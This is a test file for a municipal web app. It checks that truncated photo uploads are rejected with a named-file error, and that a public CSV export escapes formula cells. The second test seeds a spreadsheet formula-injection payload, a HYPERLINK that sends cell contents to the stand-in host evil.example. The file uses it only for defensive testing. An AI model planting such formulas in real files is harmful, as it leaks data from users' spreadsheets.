import { test } from '@japa/runner'
import { tenantDb } from '#tenancy/tenant_model'
import { inTenant } from '#tests/helpers/tenants'
import { photoWithExif, postMultipart, problemsPortal, sessionOf, type ProblemsPortal } from '#tests/helpers/problems'
import { seedPosition, staffingOffice, type StaffingOffice } from '#tests/helpers/staffing'
import { SESSION_COOKIE } from '#tests/helpers/http'

let portal: ProblemsPortal
let office: StaffingOffice

test.group('Uploads | photos and CSV exports', (group) => {
  group.setup(async () => {
    portal = await problemsPortal('upl_photos')
    office = await staffingOffice('upl_exports')
  })

  test('a truncated JPEG is refused on the photos field, naming the file; the form keeps what was typed', async ({ assert, client }) => {
    const session = await sessionOf(client, portal.host, portal.citizen.email)
    const whole = await photoWithExif(1200, 900)
    const truncated = whole.subarray(0, Math.floor(whole.length * 0.6))
    const fields = {
      themeId: String(portal.lighting.id),
      municipalityId: String(portal.sochi.id),
      lat: '43.585500',
      lng: '39.723100',
      address: 'Сочи, ул. Обрезанная, 7',
      description: 'Фотография обрезалась при загрузке с телефона.',
    }
    const response = await postMultipart(client, portal.host, session, '/problems/new', '/problems', fields, [
      { name: 'photos[]', buffer: whole, filename: 'целая.jpg' },
      { name: 'photos[]', buffer: truncated, filename: 'обрезанная.jpg' },
    ])
    assert.equal(response.status(), 302)
    const page = await client.get('/problems/new').header('host', portal.host).withCookie(SESSION_COOKIE, response.cookie(SESSION_COOKIE)?.value ?? session)
    assert.include(page.text(), 'Файл «обрезанная.jpg» в поле «Фотографии» повреждён или не является фотографией')
    assert.notInclude(page.text(), '«1»', 'the file is named, not its index')
    assert.include(page.text(), 'Сочи, ул. Обрезанная, 7', 'what was typed is still there')
    assert.equal(await inTenant(portal.tenant, async () => Number((await tenantDb().from('problems').count('* as n'))[0].n)), 0)
  })

  test('the open CSV dataset neutralizes cells a spreadsheet would run as a formula; numbers stay numbers', async ({ assert, client }) => {
    await seedPosition(office, office.departments.health.id, { title: '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")', approvedFte: 2 })
    await seedPosition(office, office.departments.health.id, { title: '@SUM(1+1)', approvedFte: 1 })
    await seedPosition(office, office.departments.health.id, { title: '-2+3', approvedFte: 1 })
    const response = await client.get('/staffing/public.csv').header('host', office.host)
    response.assertStatus(200)
    const lines = response.text().split('\r\n')
    assert.include(lines, `health,Минздрав,Health,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Подробнее"")",2,2`)
    assert.include(lines, `health,Минздрав,Health,'@SUM(1+1),1,1`)
    assert.include(lines, `health,Минздрав,Health,'-2+3,1,1`)
  })
})
